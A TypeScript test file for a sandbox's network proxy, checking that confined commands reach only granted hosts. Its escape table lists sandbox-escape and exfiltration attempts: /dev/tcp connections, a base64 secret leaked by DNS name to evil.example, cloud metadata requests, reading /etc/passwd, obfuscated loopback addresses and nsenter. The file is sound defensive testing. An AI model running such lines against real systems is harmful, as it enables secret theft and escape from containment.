import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createWebServer } from 'node:http';
import type { AddressInfo, Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createCommandRunner } from '../../../src/adapters/command-runner/index.ts';
import { createSandbox, type Reach } from '../../../src/adapters/sandbox/index.ts';
import { isProtectedPath, isSecretPath } from '../../../src/core/policy/index.ts';
import type { CommandEnd, CommandOrder, CommandRunner, Connection } from '../../../src/core/ports/index.ts';

const top = realpathSync(mkdtempSync(path.join(tmpdir(), 'maestro-network-')));
const folder = path.join(top, 'worktree');
const servers: Server[] = [];

/** A machine that is granted, one that is not, and how often each was reached. */
const far = { granted: 0, other: 0 };
let [granted, other] = ['', ''];

async function serve(count: () => void): Promise<string> {
  const server = createWebServer((_message, answer) => {
    count();
    answer.end('reached');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  servers.push(server);
  return String((server.address() as AddressInfo).port);
}

function runnerWith(reach: Partial<Reach> = {}): CommandRunner {
  const finder = createCommandRunner({ environment: process.env });
  const sandbox = createSandbox({
    mode: 'auto',
    home: top,
    secret: [],
    readable: [top, path.dirname(path.dirname(process.execPath))],
    cache: path.join(top, 'cache'),
    isProtected: isProtectedPath,
    isSecret: isSecretPath,
    find: (program) => (program === 'npm' ? Promise.resolve(null) : finder.find(program, folder)),
    environment: process.env,
    reach: () => Promise.resolve({ always: [], only: null, ...reach }),
    lookup: (host) =>
      host === 'db.internal' || host === 'turned.example'
        ? Promise.resolve([{ address: '127.0.0.1', family: 4 }])
        : Promise.reject(new Error('ENOTFOUND')),
  });
  return createCommandRunner({ environment: process.env, grace: 300, sandbox });
}

async function run(
  line: string,
  more: Partial<CommandOrder> = {},
  runner = runnerWith(),
): Promise<{ readonly end: CommandEnd; readonly printed: string; readonly seen: readonly Connection[] }> {
  const seen: Connection[] = [];
  const order = {
    run: line,
    title: line,
    folder,
    cwd: folder,
    timeout: 60_000,
    hosts: [`private:db.internal:${granted}`],
  };
  const onConnection = (connection: Connection): void => void seen.push(connection);
  const command = runner.start({ ...order, onConnection, ...more }, new AbortController().signal);
  return { end: await command.ended, printed: command.output(10_000).trim(), seen };
}

/** Asks for a page as programs do, by the proxy that the environment names; and prints what came of it. */
const asking = `
  const http = require('node:http');
  const { hostname, port } = new URL(process.env.HTTP_PROXY);
  const [, , path, method = 'GET'] = process.argv;
  const asked = http.request({ hostname, port, path, method, headers: { Connection: 'close' } });
  asked.on('connect', (answer) => { console.log('connect ' + answer.statusCode); process.exit(); });
  asked.on('response', (answer) => { let text = ''; answer.on('data', (part) => (text += part)); answer.on('end', () => console.log(answer.statusCode + ' ' + text)); });
  asked.on('error', (error) => console.log(error.code));
  asked.end();`;

describe('a sandbox from which some hosts are reached', function () {
  this.timeout(60_000);
  before(async function () {
    mkdirSync(folder);
    writeFileSync(path.join(folder, 'ask.cjs'), asking);
    if (!(await runnerWith().terms()).sandboxed) this.skip();
    [granted, other] = [await serve(() => far.granted++), await serve(() => far.other++)];
  });
  beforeEach(() => {
    [far.granted, far.other] = [0, 0];
  });
  after(() => {
    for (const server of servers) server.close();
    rmSync(top, { recursive: true, force: true });
  });

  it('lets a program through to what was granted, and tells of it', async () => {
    const { printed, seen, end } = await run(`node ask.cjs http://db.internal:${granted}/`);
    assert.equal(printed, '200 reached');
    assert.deepEqual(seen, [{ host: 'db.internal', port: Number(granted), outcome: 'reached', address: '127.0.0.1' }]);
    assert.ok(end.kind === 'exited' && end.exitCode === 0 && end.confined && end.leftBehind === 0);
  });

  it('lets programs through that ask the proxy for a tunnel', async () => {
    const { printed } = await run(`node ask.cjs db.internal:${granted} CONNECT`);
    assert.equal(printed, 'connect 200');
  });

  it('ends as the command ends, and leaves nothing behind', async () => {
    const before = readdirSync('/tmp').filter((name) => name.startsWith('maestro-'));
    const { end } = await run('exit 7');
    assert.equal(end.kind === 'exited' && end.exitCode, 7);
    const left = readdirSync('/tmp').filter((name) => name.startsWith('maestro-') && !before.includes(name));
    assert.deepEqual(
      left.filter((name) => existsSync(path.join('/tmp', name, 'proxy'))),
      [],
    );
  });

  it('lets a command that is to end do what it does at its end', async () => {
    const script = `process.on('SIGTERM', () => { require('node:fs').writeFileSync('ended', ''); process.exit(0); }); console.log('ready'); setInterval(() => {}, 1000);`;
    writeFileSync(path.join(folder, 'serve.cjs'), script);
    const { promise: ready, resolve } = Promise.withResolvers<string>();
    const hosts = [`private:db.internal:${granted}`];
    const order = {
      run: ['node', 'serve.cjs'],
      title: '',
      folder,
      cwd: folder,
      timeout: 60_000,
      onLine: resolve,
      hosts,
    };
    const command = runnerWith().start(order, new AbortController().signal);
    await ready;
    await command.stop();
    assert.equal(existsSync(path.join(folder, 'ended')), true);
  });

  /** Lines that must reach nothing, each of which prints `reached` when it did. */
  const escapes: Readonly<Record<string, () => string>> = {
    'another port of the host': () => `node ask.cjs http://db.internal:${other}/`,
    'another port, by a tunnel': () => `node ask.cjs db.internal:${other} CONNECT | sed s/connect.200/reached/`,
    'a service of this machine by its address': () => `node ask.cjs http://127.0.0.1:${other}/`,
    'the same host by its address': () => `node ask.cjs http://127.0.0.1:${granted}/`,
    'a service of this machine without the proxy': () => `exec 3<>/dev/tcp/127.0.0.1/${other} && echo reached`,
    'the host without the proxy': () => `exec 3<>/dev/tcp/127.0.0.1/${granted} && echo reached`,
    'another machine without the proxy': () => '(exec 3<>/dev/tcp/192.0.2.1/80) && echo reached',
    'another machine by a packet': () => '(echo x > /dev/udp/192.0.2.1/53) && echo reached',
    'a name that is asked for': () => 'getent hosts db.internal example.org && echo reached',
    'a secret told by a name': () => `node ask.cjs http://c2VjcmV0.evil.example:80/`,
    'an address of IPv6': () => `node ask.cjs http://[::1]:${other}/`,
    'an address of IPv4 in one of IPv6': () => `node ask.cjs http://[::ffff:127.0.0.1]:${other}/`,
    'an address as one number': () => `node ask.cjs http://2130706433:${other}/`,
    'an address in octal': () => `node ask.cjs http://0177.0.0.1:${other}/`,
    'a name that is turned to this machine': () => `node ask.cjs http://turned.example:${other}/`,
    'keys of a cloud': () => 'node ask.cjs http://169.254.169.254/latest/ | grep -v 403 && echo reached',
    'a file by the proxy': () => 'node ask.cjs file:///etc/passwd | grep root: && echo reached',
    'the socket of the proxy put away': () =>
      '(mv /run/network /tmp/n || rm /run/network/proxy || ln -sf /x /run/network/proxy) && echo reached',
    'a raw socket': () =>
      `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('reached')"`,
    'the machine’s own network': () => 'nsenter -t 1 -n true && echo reached',
    'an address of its own': () => 'ip addr add 192.0.2.9/24 dev lo && echo reached',
  };
  for (const [what, line] of Object.entries(escapes)) {
    it(`keeps from ${what}`, async () => {
      const hosts = [`private:db.internal:${granted}`, `turned.example:${other}`];
      const { printed, end } = await run(line(), { hosts });
      assert.equal(end.kind, 'exited');
      assert.doesNotMatch(printed, /reached|connect 200/);
      assert.deepEqual(far, { granted: 0, other: 0 });
    });
  }

  it('tells what a command was kept from, each once', async () => {
    const line = `node ask.cjs http://db.internal:${other}/; node ask.cjs http://db.internal:${other}/`;
    const { end, printed } = await run(line);
    assert.deepEqual(end.kind === 'exited' && end.keptFrom, [
      { host: 'db.internal', port: Number(other), outcome: 'not-granted' },
    ]);
    assert.match(printed, /lets nothing through to db\.internal:\d+\. Granted: db\.internal:\d+\./);
  });

  it('has a host in it for every command when the person wants that, and none that the workspace leaves out', async () => {
    const always = [`private:db.internal:${granted}`];
    const line = `node ask.cjs http://db.internal:${granted}/`;
    assert.equal((await run(line, { hosts: [] }, runnerWith({ always }))).printed, '200 reached');
    const narrowed = runnerWith({ always, only: ['example.org'] });
    assert.match((await run(line, { hosts: always }, narrowed)).printed, /^403 /);
  });

  it('has no network at all where nothing is granted', async () => {
    const { printed } = await run('echo "proxy:$HTTP_PROXY"; ls /run', { hosts: [] });
    assert.equal(printed, 'proxy:');
  });

  it('keeps the way out of one command from others', async () => {
    const gate = path.join(folder, 'go');
    const slow = runnerWith().start(
      {
        run: 'touch started; while [ ! -e go ]; do sleep 0.05; done',
        title: '',
        folder,
        cwd: folder,
        timeout: 60_000,
        hosts: [`private:db.internal:${granted}`],
      },
      new AbortController().signal,
    );
    const { printed } = await run(
      'while [ ! -e started ]; do sleep 0.05; done; ls -d /tmp/maestro-*/proxy /run/network 2>/dev/null; echo end',
      { hosts: [] },
    );
    writeFileSync(gate, '');
    await slow.ended;
    assert.equal(printed, 'end');
  });
});
